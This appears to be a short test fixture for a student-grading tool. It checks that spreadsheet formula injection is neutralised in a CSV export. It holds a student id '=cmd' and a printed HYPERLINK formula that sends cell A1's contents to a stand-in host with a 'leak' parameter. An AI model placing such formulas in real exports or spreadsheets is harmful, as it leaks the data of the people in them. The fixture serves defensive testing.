# A student id a spreadsheet would run as a formula (=cmd, from the folder name) and output that looks like one; stopped by grades.csv prefixing a quote to every text cell that starts like a formula (report.safe_cell).
# student: =cmd
# %%
print('=HYPERLINK("http://example.invalid/?leak="&A1,"open me")')
print("ATTACK-DONE")
